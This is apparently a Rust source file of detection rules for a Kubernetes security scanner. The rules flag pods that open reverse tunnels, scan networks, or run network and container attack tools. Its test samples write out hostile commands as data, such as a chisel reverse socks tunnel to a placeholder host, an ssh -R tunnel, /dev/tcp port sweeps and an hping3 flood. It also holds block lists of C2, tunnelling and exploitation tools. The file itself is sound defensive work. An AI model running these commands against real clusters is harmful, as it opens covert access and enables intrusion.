//! Tools that are made for attacks, or whose use in a Job means one.

use super::shells::{is_netcat, only_probes};
use super::words::{cluster, has, operands, short, subcommand, words};
use super::{COMMAND, Rule, Sample, Severity, each_match};
use crate::detect::catalog::{Exposure, Remedy, Step, links};
use crate::detect::runs::Run;
use crate::normalize::Invocation;

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-tunnel-c2",
        title: "Tunnel from the inside",
        message: "opens a tunnel from the inside",
        meaning: "The tool connects outwards and lets someone in over that connection, past every firewall.",
        false_positives: "Tunnels as a service belong into a Deployment, not a Job; tests of development teams.",
        confirm: &[
            Step::Object(
                "The tool, the server that it connects to and what it forwards. A token or domain in the \
                 arguments names the account of the tunnel's owner.",
            ),
            Step::Logs("“connected”, “session established” or a public URL: the tunnel was open."),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets],
            attack: "Ending the pod closes the tunnel. Block its server, and look in the flow logs of \
                     everything that the pod could reach for connections from the pod's address: they were \
                     made by whoever sat at the other end.",
            benign: "Publish a service with an Ingress or a Gateway. A tunnel that is meant belongs into a \
                     Deployment with an owner, an agreement and a policy of what it may reach.",
        },
        severity: Severity::High,
        points: 45,
        techniques: &["T1572", "T1090", "T1219"],
        references: &[links::NETWORK_POLICY],
        check: |facts, found| each_match(facts, found, |_, _, invocation| tunnels(invocation)),
        samples: &[
            Sample::Hit(45, "containers: [{name: a, command: [ngrok, tcp, '22']}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [/tmp/chisel, client, 'x.example.test:443', 'R:socks']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'ssh -fN -R 2222:localhost:22 u@x.example.test']}]",
            ),
            Sample::Hit(
                45,
                "initContainers: [{name: a, restartPolicy: Always, image: cloudflare/cloudflared, args: [tunnel, run]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [ssh, -N, -L, '5432:db:5432', u@bastion.example.test]}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [ssh, u@h.example.test, systemctl, reload, nginx]}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-network-scan",
        title: "Network scan",
        message: "scans the network",
        meaning: "Hosts and open ports are looked for: the step before moving on to them.",
        false_positives: "Authorised scanners.",
        confirm: &[
            Step::Object("Which range is scanned: the pod network, the nodes, or addresses outside."),
            Step::Logs("Open ports that were found: the list of what comes next."),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token],
            attack: "Look at the services that the scan found first, above all those without \
                     authentication (kubelet read-only port, databases, dashboards).",
            benign: "Announce scans, run them from a named namespace and account, and with a deadline. A \
                     reviewed scanner image with a fixed target list is easy to recognise.",
        },
        severity: Severity::Low,
        points: 25,
        techniques: &["T1046"],
        references: &[links::NETWORK_POLICY],
        check: |facts, found| each_match(facts, found, scans),
        samples: &[
            Sample::Hit(25, "containers: [{name: a, command: [masscan, 10.0.0.0/8, -p443]}]"),
            Sample::Hit(25, "containers: [{name: a, command: [sh, -c, 'nc -zv 10.0.0.1 1-1024']}]"),
            Sample::Hit(
                25,
                "containers: [{name: a, command: [bash, -c, 'for p in $(seq 1 1024); do echo > /dev/tcp/10.0.0.1/$p; done']}]",
            ),
            Sample::Hit(
                25,
                "containers: [{name: a, command: [bash, -c, 'for i in {1..254}; do (echo > /dev/tcp/10.0.0.$i/22); done']}]",
            ),
            Sample::Hit(
                25,
                "containers: [{name: a, command: [sh, -c, 'for p in $(seq 1 65535); do nc -zv -w1 10.0.0.1 $p; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'for i in {1..30}; do nc -z db 5432 && break; sleep 1; done']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'nc -zv db 5432']}]"),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'for i in 1 2 3; do echo > /dev/tcp/db/5432; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'until echo > /dev/tcp/$HOST/$PORT; do sleep 1; done']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-network-attack",
        title: "Network attack tool",
        message: "intercepts, forces or floods connections",
        meaning: "Tools for man-in-the-middle attacks, password guessing, capture of traffic and denial of service.",
        false_positives: "Capture of traffic for debugging, authorised tests.",
        confirm: &[
            Step::Object(
                "The tool and its target: capture, ARP or DNS spoofing, password guessing, flooding.",
            ),
            Step::Fields(
                "..securityContext.capabilities",
                "NET_RAW and NET_ADMIN: without them, and without hostNetwork, spoofing and capture mostly \
                 fail.",
            ),
            Step::Fields("..hostNetwork", "true means that the traffic of the whole node was within reach."),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Secrets, Exposure::Data],
            attack: "Passwords and tokens that went over unencrypted connections near the pod are lost. \
                     Ask the owners of the targets for failed logins and load in that time.",
            benign: "Capture traffic with kubectl debug in the pod in question, for a limited time. Load \
                     tests aim at your own named services.",
        },
        severity: Severity::Medium,
        points: 35,
        techniques: &["T1557", "T1040", "T1110"],
        references: &[links::NETWORK_POLICY, links::DEBUG],
        check: |facts, found| each_match(facts, found, |_, _, invocation| attacks_network(invocation)),
        samples: &[
            Sample::Hit(35, "containers: [{name: a, command: [arpspoof, -i, eth0, 10.0.0.1]}]"),
            Sample::Hit(35, "containers: [{name: a, command: [tcpdump, -i, any, -w, /tmp/c.pcap]}]"),
            Sample::Hit(35, "containers: [{name: a, command: [hping3, --flood, 10.0.0.1]}]"),
            Sample::Miss("containers: [{name: a, command: [tcpdump, --version]}]"),
            Sample::Miss("containers: [{name: a, command: [ping, -c, '3', 10.0.0.1]}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-offensive-tool",
        title: "Container attack tool",
        message: "runs a tool made for attacks on containers and clusters",
        meaning: "These programs look for ways out of a container or through a cluster, and take them.",
        false_positives: "Penetration tests.",
        confirm: &[
            Step::Object(
                "The tool and its arguments: only looking (evaluate, audit, linpeas), or an exploit.",
            ),
            Step::Logs(
                "Its report: what it found is what the attacker knows now. Keep it, it is also your list \
                 of repairs.",
            ),
            Step::Rights("What the account may do: these tools use it at once."),
        ],
        remedy: Remedy {
            exposes: &[Exposure::Token, Exposure::Node],
            attack: "Ask first whether a penetration test is under way. If not, treat everything that the \
                     tool lists as vulnerable as used.",
            benign: "Tests are announced with time, namespace and account, and removed when they end.",
        },
        severity: Severity::Medium,
        points: 35,
        techniques: &["T1588.002", "T1613"],
        references: &[links::POD_SECURITY, links::RBAC_PRACTICES],
        check: |facts, found| each_match(facts, found, |_, _, invocation| is_offensive(invocation)),
        samples: &[
            Sample::Hit(35, "containers: [{name: a, command: [/tmp/cdk, evaluate]}]"),
            Sample::Hit(35, "containers: [{name: a, command: [sh, -c, './linpeas.sh -a']}]"),
            Sample::Hit(35, "containers: [{name: a, image: example.test/peirates, args: [-v]}]"),
            Sample::Miss("containers: [{name: a, command: [cdk, deploy, --all]}]"),
            Sample::Miss("containers: [{name: a, command: [/app/run, peirates]}]"),
        ],
        ..COMMAND
    },
];

const TUNNELS: &[&str] = &[
    "ngrok",
    "frpc",
    "frps",
    "tmate",
    "gs-netcat",
    "gsocket",
    "blitz",
    "cloudflared",
    "tor",
    "iodine",
    "iodined",
    "dnscat",
    "dnscat2",
    "wstunnel",
    "pwncat",
    "pwncat-cs",
    "sliver",
    "sliver-client",
    "merlin-agent",
    "ligolo",
    "ligolo-ng",
    "ligolo-agent",
    "rathole",
    "revsocks",
    "rpivot",
    "sshuttle",
    "inlets",
    "inlets-pro",
    "pagekite",
    "localxpose",
    "playit",
    "zrok",
    "teleconsole",
    "upterm",
    "dns2tcpc",
    "ptunnel",
    "icmpsh",
    "bore",
    "reGeorg",
    "earthworm",
    "nps",
    "npc",
    "gost",
];

fn tunnels(invocation: &Invocation) -> bool {
    match invocation.program.as_str() {
        "chisel" => subcommand(invocation, &["client", "server"]),
        "npc" | "nps" | "gost" | "bore" => words(invocation).any(|word| {
            word.starts_with("-server") || word.starts_with("-L") || word.starts_with("-F") || word == "local"
        }),
        "ssh" | "autossh" | "dbclient" => {
            words(invocation).take_while(|word| word.starts_with('-') || !word.contains('@')).any(|word| {
                word.starts_with("-R")
                    || word.starts_with("-D")
                    || word.starts_with("-w")
                    || cluster(word).is_some_and(|flags| flags.ends_with(['R', 'D']))
            })
        }
        "tor" | "cloudflared" => !has(invocation, &["--version", "version", "access"]),
        program => TUNNELS.contains(&program),
    }
}

const SCANNERS: &[&str] = &[
    "masscan",
    "nmap",
    "zmap",
    "rustscan",
    "naabu",
    "fscan",
    "unicornscan",
    "arp-scan",
    "netdiscover",
    "nbtscan",
    "zgrab",
    "zgrab2",
    "pnscan",
    "angryip",
    "scanrand",
    "hping3",
    "fping",
    "nping",
];

fn scans(run: &Run<'_>, at: usize, invocation: &Invocation) -> bool {
    let program = invocation.program.as_str();
    if SCANNERS.contains(&program) {
        return !has(invocation, &["--version", "-V"])
            && (program != "fping" || words(invocation).any(|word| word.starts_with("-g")));
    }
    let netcat = is_netcat(program) && only_probes(invocation);
    if netcat && words(invocation).any(|word| is_range(word) || sweeps_sequence(word)) {
        return true;
    }
    // A loop over ports or hosts: the target of a socket comes from `seq` or a list of braces.
    let swept = |target: &str| target.starts_with("/dev/tcp/") && target.contains('$');
    let mut targets = invocation.redirects.iter().map(|redirect| redirect.target.text.as_str());
    if targets.any(|target| target.starts_with("/dev/tcp/") && sweeps_sequence(target)) {
        return true;
    }
    let sweeps = netcat && operands(invocation).any(|word| word.contains('$'))
        || invocation.redirects.iter().any(|redirect| swept(&redirect.target.text));
    let from_list = || {
        let sources = invocation
            .inputs
            .iter()
            .flat_map(|span| span.indices())
            .take(16)
            .filter_map(|at| run.invocation(at));
        let loops = at
            .checked_sub(1)
            .into_iter()
            .flat_map(|end| end.saturating_sub(8)..=end)
            .filter_map(|at| run.invocation(at));
        sources.into_iter().any(|source| source.program == "seq")
            || loops.into_iter().any(|head| head.program == "for" && head.args.len() > 16)
    };
    sweeps && from_list()
}

/// Whether a long sequence is in a word, `10.0.0.{1..254}`: what a loop over one puts there, or a list itself.
fn sweeps_sequence(word: &str) -> bool {
    let inner = word.split_once('{').and_then(|(_, rest)| rest.split_once('}')).map(|(inner, _)| inner);
    let mut ends = inner.unwrap_or_default().splitn(3, "..").take(2);
    let number = |end: Option<&str>| end.and_then(|end| end.parse::<u32>().ok());
    match (number(ends.next()), number(ends.next())) {
        (Some(from), Some(to)) => from.abs_diff(to) > 16,
        _ => false,
    }
}

/// `1-1024`.
fn is_range(word: &str) -> bool {
    word.split_once('-').is_some_and(|(from, to)| from.parse::<u16>().is_ok() && to.parse::<u16>().is_ok())
}

fn attacks_network(invocation: &Invocation) -> bool {
    match invocation.program.as_str() {
        "arpspoof" | "ettercap" | "bettercap" | "dsniff" | "responder" | "Responder.py" | "mitm6"
        | "mitmproxy" | "mitmdump" | "hydra" | "medusa" | "ncrack" | "patator" | "crowbar" | "slowloris"
        | "slowhttptest" | "dnsspoof" | "sslstrip" | "yersinia" | "goldeneye" | "hashcat" | "john"
        | "thc-ssl-dos" | "mhddos" | "torshammer" => true,
        "hping3" => has(invocation, &["--flood", "--faster", "--rand-source"]),
        "tcpdump" | "tshark" | "dumpcap" | "ngrep" => {
            short(invocation, 'w') || short(invocation, 'A') || has(invocation, &["any"])
        }
        _ => false,
    }
}

const OFFENSIVE: &[&str] = &[
    "peirates",
    "kubeletctl",
    "botb",
    "break-out-the-box",
    "deepce",
    "deepce.sh",
    "linpeas",
    "linpeas.sh",
    "linpeas_linux_amd64",
    "amicontained",
    "kdigger",
    "kubesploit",
    "kubestriker",
    "red-kube",
    "msfconsole",
    "msfvenom",
    "mimikatz",
    "mimipenguin",
    "traitor",
    "pspy",
    "pspy64",
    "linenum.sh",
    "LinEnum.sh",
    "les.sh",
    "linux-exploit-suggester.sh",
    "crackmapexec",
    "nxc",
    "evil-winrm",
    "pacu",
    "impacket-secretsdump",
    "secretsdump.py",
    "kubehound-exploit",
    "xmap",
    "metasploit",
    "empire",
    "pupy",
    "kubescape-exploit",
    "cdk_linux_amd64",
    "cdk_linux_amd64_upx",
    "ctrsploit",
    "lse.sh",
];

fn is_offensive(invocation: &Invocation) -> bool {
    // AWS has a development kit of the same name; the subcommands differ.
    let is_cdk = invocation.program.starts_with("cdk")
        && subcommand(
            invocation,
            &[
                "evaluate",
                "eva",
                "run",
                "kcurl",
                "ectl",
                "ucurl",
                "dcurl",
                "probe",
                "auto-escape",
                "istio-check",
            ],
        );
    let script =
        words(invocation).next().map(|word| word.rsplit('/').next().unwrap_or(word)).unwrap_or_default();
    let by_shell = crate::normalize::exec::is_shell(&invocation.program) && OFFENSIVE.contains(&script);
    is_cdk || by_shell || OFFENSIVE.contains(&invocation.program.as_str())
}
